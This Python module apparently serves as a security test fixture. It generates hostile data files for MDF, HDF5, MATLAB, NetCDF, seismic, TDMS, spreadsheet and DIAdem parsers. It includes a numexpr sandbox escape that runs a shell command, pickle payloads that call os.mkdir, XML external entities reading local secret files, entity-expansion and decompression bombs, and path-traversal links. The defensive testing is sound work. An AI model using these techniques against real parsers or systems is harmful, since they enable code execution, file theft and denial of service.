"""
A hostile file for each library that parses a stranger's file: it runs a program, reads a secret, swells, or has no end.

`write` makes them in a campaign's folder, beside which the secrets are. What each would do is in its function's first
line. None of them may do it.
"""

from __future__ import annotations

import os
import pickle
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np

SECRET = 31337.25 + np.arange(100.0)
"""Values that are in no raw file, but in files beside the campaign's folder."""
SWOLLEN = 1 << 28
"""Bytes that a small file unpacks to."""
TIME = np.arange(200) / 100
COUNTS = np.arange(200, dtype="i2")


class Hostile(NamedTuple):
    """A file, and how it is to be read."""

    path: Path
    format: str | None = None
    options: dict[str, Any] | None = None


class Place(NamedTuple):
    """Where a file is written, what it would read, and what it would make."""

    folder: Path
    secrets: Path
    victim: Path


class Program:
    """What a pickle may hold."""

    def __init__(self, victim: Path) -> None:
        self.victim = victim

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.victim),)


def secrets(folder: Path) -> None:
    """Write what must not be read."""
    import h5py

    folder.mkdir()
    (folder / "secret").write_bytes(SECRET.astype("<i4").tobytes())
    (folder / "secret.txt").write_text("\n".join(map(str, SECRET)), encoding="ascii")
    with h5py.File(folder / "secret.h5", "w") as file:
        file["x"] = SECRET


def formula(victim: Path) -> str:
    """A formula that runs a program: between single quotes numexpr does not look for what it forbids."""
    classes = "().__class__.__base__.__subclasses__()"
    system = f'[c for c in {classes} if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]'
    return f"""("'" and {system}("touch {victim}") + 1 and "'" and X1)"""


def _mdf(path: Path, version: str, text: str) -> Path:
    import asammdf
    from asammdf.blocks import v2_v3_blocks, v4_blocks

    blocks, kind = (v4_blocks, 3) if version >= "4" else (v2_v3_blocks, 10)
    conversion = blocks.ChannelConversion(conversion_type=kind, formula=text)
    with asammdf.MDF(version=version) as file:
        file.append(
            [
                asammdf.Signal(COUNTS, TIME, name="a", conversion=conversion),
                asammdf.Signal(COUNTS, TIME, name="plain"),
            ]
        )
        written = Path(file.save(path.with_suffix(".mf4" if version >= "4" else ".mdf"), overwrite=True))
    return written.rename(path)


def mdf_program(place: Place) -> Hostile:
    """asammdf, version 4: runs a program."""
    return Hostile(_mdf(place.folder / "free-01.csv", "4.10", formula(place.victim)))


def mdf_3_program(place: Place) -> Hostile:
    """asammdf, version 3: runs a program."""
    return Hostile(_mdf(place.folder / "free-02.csv", "3.30", formula(place.victim)))


def mdf_endless(place: Place) -> Hostile:
    """asammdf: does not end."""
    return Hostile(_mdf(place.folder / "free-03.csv", "4.10", "X1+9**9**9**9"))


def mdf_attached(place: Place) -> Hostile:
    """asammdf: has a file elsewhere attached to a channel."""
    import asammdf

    with asammdf.MDF(version="4.10") as file:
        file.append([asammdf.Signal(COUNTS, TIME, name="a")])
        number = file.attach((place.secrets / "secret").read_bytes(), file_name="secret", embedded=False)
        file.groups[0].channels[1].attachment = number
        file.attachments[number].file_name = str(place.secrets / "secret")
        written = Path(file.save(place.folder / "attached.mf4", overwrite=True))
    return Hostile(written)


def mdf_swelling(place: Place) -> Hostile:
    """asammdf: a quarter of a megabyte that unpacks to a quarter of a gigabyte."""
    import asammdf

    with asammdf.MDF(version="4.10") as file:
        file.append([asammdf.Signal(np.zeros(1000), np.arange(1000.0), name="a")])
        path = Path(file.save(place.folder / "swelling.mf4", overwrite=True, compression=1))
    content = bytearray(path.read_bytes())
    start = content.find(b"##DZ")
    packed = zlib.compress(bytes(SWOLLEN), 9)
    head = content[start : start + 24]
    struct.pack_into("<Q", head, 8, 48 + len(packed))
    sizes = struct.pack("<2sBBIQQ", b"DT", 0, 0, 0, SWOLLEN, len(packed))
    moved = bytes(content).replace(struct.pack("<Q", start), struct.pack("<Q", len(content)))
    path.write_bytes(moved + bytes(head) + sizes + packed)
    return Hostile(path)


def _seismic(path: Path, kind: str, folder: str, name: str) -> Hostile:
    shift = int(kind == "NNSA_KB_CORE")
    line = bytearray(b" " * (283 + 4 * shift))
    for start, text in (
        *((0, "TABLE"), (7, "ACC"), (16, f"{1366970100.0:17.5f}"), (61 + shift, f"{1366970101.0:17.5f}")),
        *((79 + shift, f"{100:8d}"), (88 + shift, f"{100.0:11.4f}"), (100 + shift, f"{1.0:16.6f}")),
        *((117 + shift, f"{1.0:16.6f}"), (143 + shift, "i4"), (148 + shift, folder), (213 + shift, name)),
        (246 + shift, f"{0:10d}"),
    ):
        line[start : start + len(text)] = text.encode()
    path.write_bytes(bytes(line) + b"\n")
    return Hostile(path, "waveform", {"kind": kind})


def css_above(place: Place) -> Hostile:
    """ObsPy, CSS: reads a file elsewhere."""
    return _seismic(place.folder / "r.wfdisc", "CSS", "../secrets", "secret")


def nnsa_above(place: Place) -> Hostile:
    """ObsPy, NNSA KB Core: reads a file elsewhere."""
    return _seismic(place.folder / "r.wf", "NNSA_KB_CORE", "../secrets", "secret")


def seismic_pickle(place: Place) -> Hostile:
    """ObsPy, PICKLE: runs a program."""
    path = place.folder / "r.pickle"
    path.write_bytes(pickle.dumps(Program(place.victim)))
    return Hostile(path, "waveform", {"kind": "PICKLE"})


def pickle_as_text(place: Place) -> Hostile:
    """A pickle by the name of a text file: runs a program."""
    path = place.folder / "r.csv"
    path.write_bytes(pickle.dumps(Program(place.victim), protocol=0))
    return Hostile(path)


def numpy_object(place: Place) -> Hostile:
    """NumPy's own format: runs a program."""
    path = place.folder / "r.npy"
    np.save(path, np.array([Program(place.victim)], dtype=object), allow_pickle=True)
    return Hostile(path)


def mini_seed(place: Place) -> Hostile:
    """ObsPy's library in C: sound, to be damaged."""
    import obspy

    path = place.folder / "r.mseed"
    header = {"station": "TABLE", "channel": "ACC", "delta": 0.01}
    obspy.Stream([obspy.Trace(COUNTS.astype("i4"), header)]).write(str(path), format="MSEED", encoding="STEIM2")
    return Hostile(path)


def gse(place: Place) -> Hostile:
    """ObsPy's other library in C: sound, to be damaged."""
    import obspy

    path = place.folder / "r.gse"
    header = {"station": "TABLE", "channel": "ACC", "delta": 0.01}
    obspy.Stream([obspy.Trace(COUNTS.astype("i4"), header)]).write(str(path), format="GSE2")
    return Hostile(path)


def tdms_index(place: Place) -> Hostile:
    """npTDMS: has the index of another file beside it, and text, timestamps and a property."""
    from nptdms import ChannelObject, TdmsWriter

    path = place.folder / "r.tdms"
    with TdmsWriter(path) as writer:
        values = {"wf_increment": 0.01, "unit_string": "mm", "description": "__import__('os')"}
        writer.write_segment([ChannelObject("g", "a", COUNTS.copy(), values), ChannelObject("g", "s", ["a", "b"], {})])
    other = place.secrets / "other.tdms"
    with TdmsWriter(str(other), index_file=True) as writer:
        writer.write_segment([ChannelObject("g", "other", SECRET.copy(), {})])
    (place.secrets / "other.tdms_index").rename(place.folder / "r.tdms_index")
    return Hostile(path)


def _elsewhere(file: Any, place: Place) -> None:
    import h5py

    secret = str(place.secrets / "secret.h5")
    file["plain"] = np.arange(100.0)
    file["linked"] = h5py.ExternalLink(secret, "/x")
    raw = [(str(place.secrets / "secret"), 0, 400)]
    file.create_dataset("external", (100,), "<i4", external=raw)
    layout = h5py.VirtualLayout((100,), "<f8")
    layout[:] = h5py.VirtualSource(secret, "x", (100,))
    file.create_virtual_dataset("virtual", layout)
    file["circle"] = h5py.SoftLink("/circle")


def netcdf_elsewhere(place: Place) -> Hostile:
    """h5py, as NetCDF: takes numbers from another file."""
    import h5py

    path = place.folder / "r.nc"
    with h5py.File(path, "w") as file:
        _elsewhere(file, place)
    return Hostile(path)


def matlab_elsewhere(place: Place) -> Hostile:
    """h5py, as MATLAB 7.3: takes numbers from another file."""
    import h5py

    path = place.folder / "r73.mat"
    with h5py.File(path, "w", userblock_size=512) as file:
        _elsewhere(file, place)
        for item in ("plain", "external", "virtual"):
            file[item].attrs["MATLAB_class"] = np.bytes_("double")
    with path.open("r+b") as stream:
        stream.write(b"MATLAB 7.3 MAT-file".ljust(124) + b"\0\2IM")
    return Hostile(path)


def hdf5_swelling(place: Place) -> Hostile:
    """h5py: a dataset of a terabyte in a few kilobytes."""
    import h5py

    path = place.folder / "swelling.h5"
    with h5py.File(path, "w") as file:
        file["plain"] = np.arange(100.0)
        file.create_dataset("huge", (1 << 37,), "f8", chunks=(1 << 20,), compression="gzip")
    return Hostile(path)


def matlab_swelling(place: Place) -> Hostile:
    """Own parser of MATLAB 5: a variable of a quarter of a gigabyte in a quarter of a megabyte."""
    size = SWOLLEN + 8
    head = (
        struct.pack("<II", 14, size + 56) + struct.pack("<IIII", 6, 8, 6, 0) + struct.pack("<IIii", 5, 8, 1, size // 8)
    )
    element = zlib.compress(
        head + struct.pack("<IHH4s", 0, 1, 1, b"a\0\0\0")[4:] + struct.pack("<II", 9, size) + bytes(size)
    )
    path = place.folder / "r5.mat"
    start = b"MATLAB 5.0 MAT-file".ljust(124) + b"\0\1IM"
    path.write_bytes(start + struct.pack("<II", 15, len(element)) + element)
    return Hostile(path)


def netcdf_classic(place: Place) -> Hostile:
    """SciPy's NetCDF 3: a dimension of two thousand million."""
    from scipy.io import netcdf_file

    path = place.folder / "r3.nc"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with netcdf_file(path, "w") as file:
            file.createDimension("n", 200)
            file.createVariable("a", "f8", ("n",))[:] = TIME
    content = path.read_bytes()
    path.write_bytes(content.replace(struct.pack(">I", 200), struct.pack(">I", 0x7FFFFFFF)))
    return Hostile(path)


def workbook_entity(place: Place) -> Hostile:
    """calamine: an entity that is another file, and one that swells."""
    path = place.folder / "r.xlsx"
    spread = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    secret = (place.secrets / "secret.txt").as_uri()
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c><c r="B{n}"><v>&s;&e9;</v></c></row>' for n in range(1, 50))
    sheet = f'<!DOCTYPE x [<!ENTITY s SYSTEM "{secret}"><!ENTITY e0 "1">{spread}]>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{package}"><Relationship Id="r0" Type="{relations}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{main}" xmlns:r="{relations}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets>'
            "</workbook>",
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{relations}/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
        )
        text = f'{sheet}<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>'
        archive.writestr("xl/worksheets/sheet1.xml", text)
    return Hostile(path)


def open_document_entity(place: Place) -> Hostile:
    """calamine, OpenDocument: an entity that is another file."""
    path = place.folder / "r.ods"
    secret = (place.secrets / "secret.txt").as_uri()
    content = (
        f'<!DOCTYPE x [<!ENTITY s SYSTEM "{secret}">]><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="a"><table:table-row><table:table-cell office:value-type="string"><text:p>&s;</text:p>'
        "</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
    return Hostile(path)


def workbook_of_97(place: Place) -> Hostile:
    """calamine, Excel 97: sound, to be damaged."""
    import xlwt

    path = place.folder / "r.xls"
    book = xlwt.Workbook()
    sheet = book.add_sheet("a")
    for row, value in enumerate(TIME):
        sheet.write(row, 0, float(value))
        sheet.write(row, 1, xlwt.Formula(f"A{row + 1}*2"))
    book.save(str(path))
    return Hostile(path)


def diadem_entity(place: Place) -> Hostile:
    """expat, in the header of a DIAdem data set: an entity that is another file."""
    path = place.folder / "r.TDM"
    secret = (place.secrets / "secret.txt").as_uri()
    path.write_text(
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "{secret}">]><usi:tdm xmlns:usi="x"><usi:data>'
        "<tdm_channel><name>&s;</name></tdm_channel></usi:data></usi:tdm>",
        encoding="utf-8",
    )
    return Hostile(path)


def diadem_elsewhere(place: Place) -> Hostile:
    """Own parser of DIAdem: values in a file elsewhere."""
    path = place.folder / "r.dat"
    lines = ["DIAEXTENDED  {@:ENGLISH", "#BEGINGLOBALHEADER", "112,High -> Low", "#ENDGLOBALHEADER"]
    for number, file in enumerate((str(place.secrets / "secret"), "../secrets/secret")):
        lines += ["#BEGINCHANNELHEADER", f"200,c{number}", "202,mm", "210,EXPLICIT", f"211,{file}", "213,CHANNEL"]
        lines += ["214,INT32", "220,100", "221,1", "240,0", "241,1", "252,No", "#ENDCHANNELHEADER"]
    path.write_text("\n".join([*lines, ""]), encoding="utf-8")
    return Hostile(path)


def text_formulas(place: Place) -> Hostile:
    """pandas and own parsers of text: cells, names and units that are programs."""
    path = place.folder / "r.txt"
    program = f"__import__('os').mkdir('{place.victim}')"
    units = ["9**9**9**9", "m^9^9^9^9", "@" + str(place.secrets / "secret.txt")]
    rows = [f"{n};{n * 0.5};=1+1;{program if n == 20 else n}" for n in range(200)]
    path.write_text("\n".join([f"t [s];a [{units[0]}];b [{units[1]}];c [{units[2]}]", *rows, ""]), encoding="utf-8")
    return Hostile(path)


FILES: dict[str, Callable[[Place], Hostile]] = {
    writer.__name__: writer
    for writer in (
        *(mdf_program, mdf_3_program, mdf_endless, mdf_attached, mdf_swelling, css_above, nnsa_above, seismic_pickle),
        *(pickle_as_text, numpy_object, mini_seed, gse, tdms_index, netcdf_elsewhere, matlab_elsewhere, hdf5_swelling),
        *(matlab_swelling, netcdf_classic, workbook_entity, open_document_entity, workbook_of_97, diadem_entity),
        *(diadem_elsewhere, text_formulas),
    )
}
